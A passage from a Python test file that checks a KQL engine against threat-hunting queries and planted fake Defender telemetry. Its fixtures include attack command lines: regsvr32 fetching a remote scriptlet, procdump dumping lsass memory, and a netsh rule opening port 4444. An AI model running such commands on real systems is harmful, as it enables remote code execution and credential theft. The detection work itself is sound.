// Here we expand the list so that each value gets a separate row. All the other columns in the row, such as MacAddress, are duplicated.
| mvexpand parse_json(IPAddresses)
| project IPAddress=IPAddresses.IPAddress, AddressType=IPAddresses.AddressType, NetworkAdapterType, TunnelType, MacAddress,
ConnectedNetworks, Timestamp, TimeDifference=abs(Timestamp-pivotTimeParam)
// In case multiple machines have reported from that IP address arround that time, start with the ones reporting closest to pivotTimeParam
| sort by TimeDifference asc, NetworkAdapterType, MacAddress"""


def test_library_network_adapters_of_a_machine_at_a_time(planted):
    rows = engine(planted, NETWORK_INFO)
    assert pick(
        rows,
        "IPAddress",
        "AddressType",
        "NetworkAdapterType",
        "TunnelType",
        "MacAddress",
        "Timestamp",
        "TimeDifference",
    ) == [
        {
            "IPAddress": "192.168.1.5",
            "AddressType": "Private",
            "NetworkAdapterType": "Ethernet",
            "TunnelType": "None",
            "MacAddress": "C0-BF-EF-EC-0B-FE",
            "Timestamp": world.iso(EVE_REPORT),
            "TimeDifference": "00:04:00",
        }
    ]
    assert rows[0]["ConnectedNetworks"][0]["Name"] == "corp.contoso.com"


# General queries/Alert Events from Internal IP Address.yaml (rightsemi join, then AlertInfo)
ALERTS_FROM_INTERNAL_IP = r"""let PivotTime = datetime(2021-01-02 20:57:02); //Fill out time
let TimeRangeStart = PivotTime-15m; // 15 Minutes Prior to Pivot Time
let TimeRangeEnd = PivotTime+15m; // 15 Minutes After Pivot Time
let IPAddress = "172.16.40.8";  // internal IP address to search
// Locate DeviceIds associated with IP
let FindDeviceIdbyIP = DeviceNetworkInfo
| where Timestamp between ((TimeRangeStart) ..TimeRangeEnd)
    and IPAddresses contains strcat("\"", IPAddress, "\"")
    and NetworkAdapterStatus == "Up"
| project DeviceName, DeviceId, Timestamp, IPAddresses;
// Query Alerts matching DeviceIds
FindDeviceIdbyIP
| join kind=rightsemi AlertEvidence on DeviceId
| join AlertInfo on AlertId
// Summarizes alerts by AlertId with min and max event times
| summarize Title=any(Title), min(Timestamp), max(Timestamp), DeviceName=any(DeviceName) by AlertId"""


def test_library_alerts_of_the_device_that_had_an_internal_ip(planted):
    at4, at2 = world.iso(world.ago(days=4)), world.iso(world.ago(days=2))
    assert unordered(engine(planted, ALERTS_FROM_INTERNAL_IP)) == unordered(
        [
            {
                "AlertId": "da801",
                "Title": "Suspicious activity on kiosk",
                "min_Timestamp": at4,
                "max_Timestamp": at4,
                "DeviceName": world.KIOSK.name,
            },
            {
                "AlertId": "da802",
                "Title": "Malware on kiosk",
                "min_Timestamp": at2,
                "max_Timestamp": at2,
                "DeviceName": world.KIOSK.name,
            },
        ]
    )


# General queries/Events surrounding alert (1).yaml: the "modified query" (toscalar pivots)
EVENTS_SURROUNDING_ALERT = r'''let alertId = "636641078490537577_-1905871543";
let alert = AlertInfo | join AlertEvidence on AlertId | where AlertId == alertId | summarize AlertFirstTimestamp=min(Timestamp) by DeviceId;
let DeviceId = toscalar(alert | project DeviceId);
let timestamp = toscalar(alert | project AlertFirstTimestamp);
let lookupPeriod = 10m;
DeviceLogonEvents
| where Timestamp between ((timestamp - lookupPeriod) .. lookupPeriod)
        and DeviceId == DeviceId
        and LogonType == "Network"'''


def test_library_network_logons_in_the_ten_minutes_before_an_alert(sb):
    # of ALICE's logons around the alert only the network one 5 minutes before it is in the window
    rows = hunt(sb, EVENTS_SURROUNDING_ALERT)
    assert pick(rows, "Timestamp", "DeviceName", "LogonType", "AccountName", "RemoteIP") == [
        {
            "Timestamp": world.iso(world.SURROUNDED_AT - timedelta(minutes=5)),
            "DeviceName": world.ALICE.name,
            "LogonType": "Network",
            "AccountName": "svc_backup",
            "RemoteIP": "10.1.0.20",
        }
    ]


# General queries/Events surrounding alert.yaml: the "original query" (a fixed pivot time and device)
EVENTS_BEFORE_PIVOT = r'''// Original query: filter for network logon events right before some timestamp
let DeviceId = "474908f457a1dc4c1fab568f808d5f77bf3bb951";
let timestamp = datetime(2018-06-09T02:23:26.6832917Z);
let lookupPeriod = 10m;
DeviceLogonEvents
| where Timestamp between ((timestamp - lookupPeriod) .. lookupPeriod)
        and DeviceId == DeviceId
        and LogonType == "Network"'''


def test_library_network_logons_in_the_ten_minutes_before_a_fixed_time(planted):
    # the logon 4 minutes before the pivot; the one 12 minutes before is out of the window
    rows = engine(planted, EVENTS_BEFORE_PIVOT)
    assert pick(rows, "Timestamp", "DeviceName", "AccountName") == [
        {
            "Timestamp": world.iso(world.PIVOT_2018_ALERT - timedelta(minutes=4)),
            "DeviceName": world.PIVOT_DEVICE.name,
            "AccountName": "svc_scan",
        }
    ]


# Antivirus detections (1).yaml (id 05250700-5123-45be-826d-dd14c623fade): alerts with evidence, parse
AV_FAMILIES = r"""AlertInfo | join AlertEvidence on AlertId
| where Title contains "Defender AV detected"
| parse Title with *"'"FamilyName"'"*
| summarize FamilyCount=dcount(FamilyName), Families=makeset(FamilyName), Titles=makeset(Title) by DeviceName, DeviceId, bin(Timestamp, 1d)
| where FamilyCount > 1
| limit 100"""


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_library_devices_with_more_than_one_malware_family(sb, endpoint):
    rows = hunt(sb, AV_FAMILIES, endpoint)
    assert as_sets(rows, "Families", "Titles") == [
        {
            "DeviceName": world.BOB.name,
            "DeviceId": world.BOB.id,
            "Timestamp": world.iso(world.AV_DAY.replace(hour=0)),
            "FamilyCount": 2,
            "Families": ["Emotet", "TrickBot"],
            "Titles": ["Defender AV detected 'Emotet' malware", "Defender AV detected 'TrickBot' malware"],
        }
    ]


# Delivery/Open email link.yaml: argmin with a tuple of names, url_decode, bin(Timestamp, 1tick)
OPEN_EMAIL_LINK = r"""// Query for links opened from mail apps - if a detection occurred right afterwards. - MTP Schema
// As there are many links opened from mails, to have a successful hunt we should have some filter or join with some other signal,
// such as suspicious processes, network connections, etc.
// Therefore, in this example, we query for alerts that might be related to links sent via email.
// This could be indicative of a phishing or spear-phishing attacks.
// Tags: #EmailLink, #Phishing, #GetNearbyAlerts
// Explaining the underlying data:
//     This query uses the BrowserLaunchedToOpenUrl event, that includes clicks on http:// or https:// links (clicks outside of browsers), or on .lnk files
//     For this event, RemoteUrl contains the opened URL.
let minTimeRange = ago(7d);
let outlookLinks =
    DeviceEvents
    // Filter on click on links from outlook
    | where Timestamp > minTimeRange and ActionType == "BrowserLaunchedToOpenUrl" and isnotempty(RemoteUrl)
    | where
            // outlook.exe is the Office Outlook app
            InitiatingProcessFileName =~ "outlook.exe"
            // RuntimeBroker.exe opens links for all apps from the Windows store, including the Windows Mail app (HxOutlook.exe).
            // However, it will also include some links opened from other apps.
            or InitiatingProcessFileName =~ "runtimebroker.exe"
    | project Timestamp, DeviceId, DeviceName, RemoteUrl, InitiatingProcessFileName, ParsedUrl=parse_url(RemoteUrl)
    // When applicable, parse the link sent via email from the clicked O365 ATP SafeLink
    | extend WasOutlookSafeLink=(tostring(ParsedUrl.Host) endswith "safelinks.protection.outlook.com")
    | project Timestamp, DeviceId, DeviceName, WasOutlookSafeLink, InitiatingProcessFileName,
            OpenedLink=iff(WasOutlookSafeLink, url_decode(tostring(ParsedUrl["Query Parameters"]["url"])), RemoteUrl);
let alerts =
    AlertInfo | join AlertEvidence on AlertId
    | summarize (FirstDetectedActivity, Title)=argmin(Timestamp, Title) by AlertId, DeviceId
    // Filter alerts that include events from before the queried time period
    | where FirstDetectedActivity > minTimeRange;
// Join the two together - looking for alerts that are right after an abnormal network logon
alerts | join kind=inner (outlookLinks) on DeviceId | where FirstDetectedActivity - Timestamp between (0min..3min)
// If there are multiple alerts close to a single click-on-link, aggregate them together to a single row
// Note: bin(Timestamp, 1tick) is used because when summarizing by a datetime field, the default "bin" used is 1-hour.
| summarize FirstDetectedActivity=min(FirstDetectedActivity), AlertTitles=makeset(Title) by OpenedLink, InitiatingProcessFileName, Timestamp=bin(Timestamp, 1tick), DeviceName, DeviceId, WasOutlookSafeLink"""


def test_library_alert_right_after_a_link_opened_from_outlook(sb):
    # the SafeLink click, unwrapped; the alert 90 seconds later (not the ones hours away)
    assert hunt(sb, OPEN_EMAIL_LINK) == [
        {
            "OpenedLink": "https://evil.example/pay?id=7",
            "InitiatingProcessFileName": "OUTLOOK.EXE",
            "Timestamp": world.iso(world.OPENED_AT),
            "DeviceName": world.ALICE.name,
            "DeviceId": world.ALICE.id,
            "WasOutlookSafeLink": True,
            "FirstDetectedActivity": world.iso(world.OPENED_AT + timedelta(seconds=90)),
            "AlertTitles": ["Suspicious file opened from email link"],
        }
    ]


# General queries/Services.yaml (DeviceRegistryEvents)
SERVICES = r"""DeviceRegistryEvents
| where RegistryKey has @"SYSTEM\CurrentControlSet\Services"
| extend ServiceName=tostring(split(RegistryKey, @"\")[4])
| project Timestamp, DeviceName, ServiceName, ActionType, InitiatingProcessAccountName, InitiatingProcessFileName, InitiatingProcessFolderPath, InitiatingProcessCommandLine, InitiatingProcessMD5, InitiatingProcessParentFileName
| top 100 by Timestamp desc"""


def test_library_service_names_from_registry_keys(sb):
    svchost = {
        "ActionType": "RegistryValueSet",
        "InitiatingProcessAccountName": "system",
        "InitiatingProcessFileName": "svchost.exe",
        "InitiatingProcessFolderPath": r"c:\windows\system32\svchost.exe",
        "InitiatingProcessCommandLine": '"svchost.exe"',
        "InitiatingProcessMD5": world.PROC["svchost.exe"].md5,
        "InitiatingProcessParentFileName": "explorer.exe",
    }
    assert hunt(sb, SERVICES) == [
        {
            "Timestamp": world.iso(world.ago(days=1)),
            "DeviceName": world.ALICE.name,
            "ServiceName": "Spooler",
            **svchost,
        },
        {
            "Timestamp": world.iso(world.ago(days=2)),
            "DeviceName": world.DB.name,
            "ServiceName": "EvilSvc",
            **svchost,
        },
    ]


# General queries/File footprint.yaml (find across six tables; makeset; a tuple of names)
FILE_FOOTPRINT = r"""let fileHash = "e152f7ce2d3a4349ac583580c2caf8f72fac16ba";
find in (DeviceFileEvents, DeviceProcessEvents, DeviceEvents, DeviceRegistryEvents, DeviceNetworkEvents, DeviceImageLoadEvents)
where SHA1 == fileHash or InitiatingProcessSHA1 == fileHash
project DeviceName, ActionType, FileName, InitiatingProcessFileName, Timestamp, SHA1, InitiatingProcessSHA1
| project DeviceName, ActionType, Timestamp,
          FileName = iff(SHA1 == fileHash, FileName, InitiatingProcessFileName),
          MatchedSide=iff(SHA1 == fileHash, iff(InitiatingProcessSHA1 == fileHash, "Both", "Child"), "Parent")
| summarize makeset(ActionType), FirstTimestamp=min(Timestamp), (LastTimestamp, LastActionType)=arg_max(Timestamp, ActionType) by FileName, MatchedSide, DeviceName
| top 1000 by LastTimestamp desc
| sort by DeviceName, LastTimestamp desc"""


def test_library_file_footprint_across_tables(sb):
    # tool.exe on EVE: as the file (written, started), as the parent (a connection, a Run key;
    # those tables have no SHA1 column), and as both (it started itself)
    def side(matched, actions, first, last, last_action):
        return {
            "FileName": "tool.exe",
            "MatchedSide": matched,
            "DeviceName": world.EVE.name,
            "set_ActionType": sorted(actions),
            "FirstTimestamp": world.iso(first),
            "LastTimestamp": world.iso(last),
            "LastActionType": last_action,
        }

    assert as_sets(hunt(sb, FILE_FOOTPRINT), "set_ActionType") == [
        side("Both", ["ProcessCreated"], world.ago(hours=20), world.ago(hours=20), "ProcessCreated"),
        side(
            "Parent",
            ["ConnectionSuccess", "RegistryValueSet"],
            world.ago(hours=25),
            world.ago(days=1),
            "ConnectionSuccess",
        ),
        side(
            "Child", ["FileCreated", "ProcessCreated"], world.ago(days=3), world.ago(days=2), "ProcessCreated"
        ),
    ]


def test_find_names_the_source_table_and_reads_every_table_without_in(planted):
    rows = engine(
        planted,
        'find withsource=Table where InitiatingProcessSHA1 == "e152f7ce2d3a4349ac583580c2caf8f72fac16ba" '
        "project ActionType | order by Table asc",
    )
    assert rows == [
        {"Table": "DeviceNetworkEvents", "ActionType": "ConnectionSuccess"},
        {"Table": "DeviceProcessEvents", "ActionType": "ProcessCreated"},
        {"Table": "DeviceRegistryEvents", "ActionType": "RegistryValueSet"},
    ]


@pytest.mark.parametrize(
    "query",
    [
        'find in (DeviceProcessEvents) where FileName == "x"',
        'find in (DeviceProcessEvents) where FileName == "x" project-smart',
        'find in (DeviceProcessEvents) where FileName == "x" project FileName:string',
    ],
)
def test_find_without_a_plain_project_list_is_refused_clearly(planted, query):
    with pytest.raises(KqlError, match="find"):
        engine(planted, query)


# === Community hunting libraries =============================================================

# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/Network - DevicesWithMostOpenPorts.md"
OPEN_PORTS = r"""DeviceNetworkEvents
| where ActionType == "ListeningConnectionCreated"
| where LocalPort < 5000 //Remove open TCP ports
| where LocalIP !="127.0.0.1" // Will generate a lot of false positives
| summarize TotalOpenPorts = dcount(LocalPort), OpenPortsList = make_set(LocalPort) by DeviceName
| sort by TotalOpenPorts"""


def test_community_devices_with_most_open_ports(sb):
    # DB listens on 1433, 445 (twice) and 135 below 5000 (49670 and a loopback port are out)
    assert as_sets(hunt(sb, OPEN_PORTS), "OpenPortsList") == [
        {"DeviceName": world.DB.name, "TotalOpenPorts": 3, "OpenPortsList": [135, 1433, 445]},
        {"DeviceName": world.ALICE.name, "TotalOpenPorts": 1, "OpenPortsList": [445]},
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/NewRDPConnections.md" (materialize, leftanti)
NEW_RDP = r"""let PreviousRDPConnections = materialize (
     DeviceNetworkEvents
     | where Timestamp > ago(20d)
     | where ActionType == "ConnectionSuccess"
     | where not(InitiatingProcessFileName == "Microsoft.Tri.Sensor.exe")
// DFI Sensor
     | where RemotePort == 3389
     );
PreviousRDPConnections
| where Timestamp > ago(2d)
| join kind=leftanti (PreviousRDPConnections
     | where Timestamp > ago(1d))
     on DeviceName, InitiatingProcessAccountName
| project
     Timestamp,
     DeviceName,
     InitiatingProcessAccountDomain,
     InitiatingProcessAccountName,
     InitiatingProcessCommandLine,
     RemoteUrl,
     RemoteIP
| sort by Timestamp"""


@pytest.mark.parametrize("endpoint", [GRAPH, LEGACY], ids=["graph", "legacy"])
def test_community_new_rdp_connections(sb, endpoint):
    # bob's connections from BOB recur within the last day; alice's from ALICE does not
    assert hunt(sb, NEW_RDP, endpoint) == [
        {
            "Timestamp": world.iso(world.ago(hours=30)),
            "DeviceName": world.ALICE.name,
            "InitiatingProcessAccountDomain": "contoso",
            "InitiatingProcessAccountName": "alice",
            "InitiatingProcessCommandLine": '"mstsc.exe"',
            "RemoteUrl": "",
            "RemoteIP": "10.1.0.20",
        }
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/PowerShellEncodedCommandsExecuted.md"
ENCODED_POWERSHELL = r"""let EncodedList = dynamic(['-encodedcommand', '-enc']);
let TimeFrame = 48h; //Customizable h = hours, d = days
DeviceProcessEvents
| where Timestamp > ago(TimeFrame)
| where ProcessCommandLine contains "powershell" or InitiatingProcessCommandLine contains "powershell"
| where ProcessCommandLine has_any (EncodedList) or InitiatingProcessCommandLine has_any (EncodedList)
| extend base64String = extract(@'\s+([A-Za-z0-9+/]{20}\S+$)', 1, ProcessCommandLine)
| extend DecodedCommandLine = base64_decode_tostring(base64String)
| extend DecodedCommandLineReplaceEmptyPlaces = replace_string(DecodedCommandLine, '\u0000', '')
| where isnotempty(base64String) and isnotempty(DecodedCommandLineReplaceEmptyPlaces)
| summarize UniqueExecutionsList = make_set(DecodedCommandLineReplaceEmptyPlaces) by DeviceName
| extend TotalUniqueEncodedCommandsExecuted = array_length(UniqueExecutionsList)
| project DeviceName, TotalUniqueEncodedCommandsExecuted, UniqueExecutionsList
| sort by TotalUniqueEncodedCommandsExecuted"""


def test_community_encoded_powershell_decoded(sb):
    assert hunt(sb, ENCODED_POWERSHELL) == [
        {
            "DeviceName": world.ALICE.name,
            "TotalUniqueEncodedCommandsExecuted": 1,
            "UniqueExecutionsList": ["whoami /all"],
        }
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/LocalFirewallAdditions.md" (project-reorder)
FIREWALL_ADDITIONS = r"""DeviceProcessEvents
| where ProcessCommandLine contains "firewall add"
| where InitiatingProcessFileName != "Microsoft.Tri.Sensor.Updater.exe" // DFI sensor
| project-reorder
     Timestamp,
     DeviceName,
     AccountName,
     ProcessCommandLine,
     InitiatingProcessCommandLine"""


def test_community_local_firewall_additions(sb):
    rows = hunt(sb, FIREWALL_ADDITIONS)
    first = ["Timestamp", "DeviceName", "AccountName", "ProcessCommandLine", "InitiatingProcessCommandLine"]
    assert list(rows[0]) == first + [c for c in PROCESS_COLUMNS if c not in first]
    assert pick(rows, *first) == [
        {
            "Timestamp": world.iso(world.ago(days=1)),
            "DeviceName": world.BOB.name,
            "AccountName": "bob",
            "ProcessCommandLine": "netsh advfirewall firewall add rule name=x dir=in action=allow localport=4444",
            "InitiatingProcessCommandLine": '"cmd.exe"',
        }
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/Regsvr32StartedByOfficeApplication.md" (a process tree)
REGSVR32_FROM_OFFICE = r"""let OfficeApplications = dynamic(['winword.exe', 'powerpnt.exe', 'excel.exe']);
DeviceProcessEvents
| where FileName == "regsvr32.exe"
| where InitiatingProcessFileName has_any (OfficeApplications)
| project
     Timestamp,
     DeviceName,
     AccountName,
     AccountDomain,
     ProcessCommandLine,
     InitiatingProcessCommandLine,
     InitiatingProcessFileName"""


def test_community_regsvr32_started_by_word(sb):
    assert hunt(sb, REGSVR32_FROM_OFFICE) == [
        {
            "Timestamp": world.iso(world.ago(days=1)),
            "DeviceName": world.ALICE.name,
            "AccountName": "alice",
            "AccountDomain": "contoso",
            "ProcessCommandLine": "regsvr32.exe /s /u /i:http://198.51.100.9/x.sct scrobj.dll",
            "InitiatingProcessCommandLine": '"WINWORD.EXE"',
            "InitiatingProcessFileName": "WINWORD.EXE",
        }
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/NewSysinternalToolDetected.md"
NEW_SYSINTERNALS = r"""let SysInternalSuite = dynamic(["accesschk.exe","accesschk64.exe","AccessEnum.exe", "AdExplorer.exe","ADExplorer.exe","ADExplorer64.exe","ADInsight.chm","ADInsight.exe","ADInsight64.exe","adrestore.exe","adrestore64.exe","Autologon.exe","Autologon64.exe","autoruns.chm","Autoruns.exe","Autoruns64.exe","autorunsc.exe","autorunsc64.exe","Bginfo.exe","Bginfo64.exe","Cacheset.exe","Cacheset64.exe","Clockres.exe","Clockres64.exe","Contig.exe","Contig64.exe","Coreinfo.exe","Coreinfo64.exe","CPUSTRES.exe","CPUSTRES64.exe","ctrl2cap.amd.sys","ctrl2cap.exe","Dbgview.chm","Dbgview.exe","dbgview64.exe","Desktops.exe","Desktops64.exe","Disk2vhd.chm","disk2vhd.exe","disk2vhd64.exe","diskext.exe","diskext64.exe","Diskmon.exe","Diskmon64.exe","DiskView.exe","DiskView64.exe","du.exe","du64.exe","efsdump.exe","Eula.txt","FindLinks.exe","FindLinks64.exe","handle.exe","handle64.exe","hex2dec.exe","hex2dec64.exe","junction.exe","junction64.exe","ldmdump.exe","Listdlls.exe","Listdlls64.exe","livekd.exe","livekd64.exe","LoadOrd.exe","LoadOrd64.exe","LoadOrdC.exe","LoadOrdC64.exe","logonsessions.exe","logonsessions64.exe","movefile.exe","movefile64.exe","notmyfault.exe","notmyfault64.exe","notmyfaultc.exe","notmyfaultc64.exe","ntfsinfo.exe","ntfsinfo64.exe","pendmoves.exe","pendmoves64.exe","pipelist.exe","pipelist64.exe","portmon.exe","procdump.exe","procdump64.exe","procexp.chm","procexp.exe","procexp64.exe","procmon.chm","Procmon.exe","Procmon64.exe","PsExec.exe","PsExec64.exe","psfile.exe","psfile64.exe","PsGetsid.exe","PsGetsid64.exe","PsInfo.exe","PsInfo64.exe","pskill.exe","pskill64.exe","pslist.exe","pslist64.exe","PsLoggedon.exe","PsLoggedon64.exe","psloglist.exe","psloglist64.exe","pspasswd.exe","pspasswd64.exe","psping.exe","psping64.exe","PsService.exe","PsService64.exe","psshutdown.exe","psshutdown64.exe","pssuspend.exe","pssuspend64.exe","Pstools.chm","psversion.txt","RAMMap.exe","RAMMap64.exe","RDCMan.exe","readme.txt","RegDelNull.exe","RegDelNull64.exe","regjump.exe","ru.exe","ru64.exe","sdelete.exe","sdelete64.exe","ShareEnum.exe","ShareEnum64.exe","ShellRunas.exe","sigcheck.exe","sigcheck64.exe","streams.exe","streams64.exe","strings.exe","strings64.exe","sync.exe","sync64.exe","Sysmon.exe","Sysmon64.exe","tcpvcon.exe","tcpvcon64.exe","tcpview.chm","tcpview.exe","tcpview64.exe","Testlimit.exe","Testlimit64.exe","Vmmap.chm","vmmap.exe","vmmap64.exe","Volumeid.exe","Volumeid64.exe","whois.exe","whois64.exe","Winobj.exe","Winobj64.exe","ZoomIt.exe","ZoomIt64.exe"]);
let knownsysinternaltools = DeviceProcessEvents
     | where FileName in~ (SysInternalSuite)
     | where Timestamp between (ago(90d) .. ago(2d))
     | distinct FileName;
DeviceProcessEvents
| where Timestamp > ago(2d)
| where FileName in~ (SysInternalSuite) and FileName !in~
(knownsysinternaltools)
| project
     Timestamp,
     DeviceName,
     AccountDomain,
     AccountName,
     FileName,
     ProcessCommandLine,
     InitiatingProcessCommandLine,
     FolderPath"""


def test_community_sysinternals_tool_new_in_two_days(sb):
    # PsExec was seen 10 days ago, so its use yesterday is not new; procdump64 is
    assert hunt(sb, NEW_SYSINTERNALS) == [
        {
            "Timestamp": world.iso(world.ago(hours=30)),
            "DeviceName": world.BOB.name,
            "AccountDomain": "contoso",
            "AccountName": "bob",
            "FileName": "procdump64.exe",
            "ProcessCommandLine": "procdump64.exe -ma lsass.exe out.dmp",
            "InitiatingProcessCommandLine": '"cmd.exe"',
            "FolderPath": r"C:\Tools\procdump64.exe",
        }
    ]


# R0gueSec/R0gueSec.github.io, "_posts/2025-07-01-hunt-exposed-devices.md" (an analyst's write-up):
# failed logons by remote address
FAILED_LOGONS_BY_REMOTE_IP = r"""DeviceLogonEvents
| where LogonType has_any("Network", "Interactive", "RemoteInteractive", "Unlock")
| where ActionType == "LogonFailed"
| where isnotempty(RemoteIP)
| summarize Attempts = count() by RemoteIP
| order by Attempts desc"""


def test_community_failed_logons_by_remote_ip(sb):
    # the failed unlock on ALICE has no remote address; successful logons are not counted
    assert hunt(sb, FAILED_LOGONS_BY_REMOTE_IP) == [
        {"RemoteIP": "185.224.3.219", "Attempts": 4},
        {"RemoteIP": "10.0.0.8", "Attempts": 2},
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/LatestAntivirusScanStatus.md"
# (arg_max(Timestamp, *), datetime_diff, a property of AdditionalFields)
LATEST_AV_SCAN = r"""DeviceEvents
| where ActionType == "AntivirusScanCompleted"
| summarize arg_max(Timestamp, *) by DeviceId
| extend ScanType = tostring(parse_json(AdditionalFields).ScanTypeIndex),
    DaysAgo = datetime_diff('day', now(), Timestamp)
| project DeviceName, ActionType, ScanType, DaysAgo
// Filter only devices that have not performed a antivirus scan in the last day
| where DaysAgo > 0
| sort by DaysAgo"""


def test_community_devices_whose_latest_scan_is_days_old(sb):
    # each device's latest scan: DB's 5 days ago, ALICE's 30 hours ago (yesterday); BOB's is today
    assert hunt(sb, LATEST_AV_SCAN) == [
        {
            "DeviceName": world.DB.name,
            "ActionType": "AntivirusScanCompleted",
            "ScanType": "Full",
            "DaysAgo": 5,
        },
        {
            "DeviceName": world.ALICE.name,
            "ActionType": "AntivirusScanCompleted",
            "ScanType": "Quick",
            "DaysAgo": 1,
        },
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/RemoteSMBConnection.md"
REMOTE_SMB = r"""DeviceNetworkEvents
| where RemoteIPType == "Public"
| where RemotePort == 445
| where ActionType == "ConnectionSuccess"
| project-reorder Timestamp, DeviceName, RemoteIP"""


def test_community_smb_connection_to_a_public_address(sb):
    rows = hunt(sb, REMOTE_SMB)
    first = ["Timestamp", "DeviceName", "RemoteIP"]
    assert list(rows[0]) == first + [c for c, _ in TABLES["DeviceNetworkEvents"] if c not in first]
    assert pick(rows, *first, "RemotePort") == [
        {
            "Timestamp": world.iso(world.ago(days=1)),
            "DeviceName": world.BOB.name,
            "RemoteIP": "203.0.113.99",
            "RemotePort": 445,
        }
    ]


# Bert-JanP/Hunting-Queries-Detection-Rules, "Defender For Endpoint/PSExecExecutions.md"
PSEXEC = r"""DeviceProcessEvents
// Collect all executed psexec commands
| where ProcessCommandLine contains "psexec.exe"
// Extract the remove device
| extend RemoteDevice = extract(@'\\\\(.*)c:', 1, ProcessCommandLine)
// If in your device onboarding Enable-PsRemoting is executed filter the line below
//| where not(ProcessCommandLine has_all ('powershell -command "Enable-PsRemoting -Force"', 'psexec.exe'))
// Collect stats and lists with remote devices and executed commands
| summarize TotalRemoteDevices = dcount(RemoteDevice), RemoteDeviceList = make_set(RemoteDevice), ExecutedCommands = make_set(ProcessCommandLine) by DeviceName
| sort by TotalRemoteDevices"""


def test_community_psexec_remote_devices(sb):
    # the capture runs from the \\ to the last "c:", trailing blank included
    assert unordered(hunt(sb, PSEXEC)) == unordered(
        [
            {
                "DeviceName": world.ALICE.name,
                "TotalRemoteDevices": 1,
                "RemoteDeviceList": ["ws-bob "],
                "ExecutedCommands": [world.PSEXEC_ALICE],
            },
            {
                "DeviceName": world.DB.name,
                "TotalRemoteDevices": 1,
                "RemoteDeviceList": ["srv-db01 "],
                "ExecutedCommands": [world.PSEXEC_DB],
            },
        ]
    )


# Azure/Azure-Sentinel, "Solutions/FalconFriday/Analytic Rules/DotNetToJScript.yaml" (DeviceImageLoadEvents)
DOTNET_TO_JSCRIPT = r"""DeviceImageLoadEvents
| where FileName in~ ("mscoree.dll", "mscorlib.dll", "mscorlib.ni.dll")
| where tolower(InitiatingProcessFileName) in ("wscript.exe", "cscript.exe", "mshta.exe")"""


def test_community_dotnet_runtime_loaded_by_wscript(sb):
    rows = hunt(sb, DOTNET_TO_JSCRIPT)
    assert list(rows[0]) == [c for c, _ in TABLES["DeviceImageLoadEvents"]]
    assert pick(
        rows,
        "DeviceName",
        "FileName",
        "FolderPath",
        "InitiatingProcessFileName",
        "InitiatingProcessCommandLine",
    ) == [
        {
            "DeviceName": world.ALICE.name,
            "FileName": "mscoree.dll",
            "FolderPath": r"C:\Windows\System32\mscoree.dll",
            "InitiatingProcessFileName": "wscript.exe",
            "InitiatingProcessCommandLine": r"wscript.exe C:\Users\Public\run.js",
        }
    ]


def test_replace_takes_its_legacy_argument_order():
    assert scalar('print r = replace(@"is (\\d+)", @"was: \\1", "Number is 1")')[1] == [
        {"r": "Number was: 1"}
    ]
    with pytest.raises(KqlError, match="not a valid regular expression"):
        scalar('print r = replace("(", "", "text")')
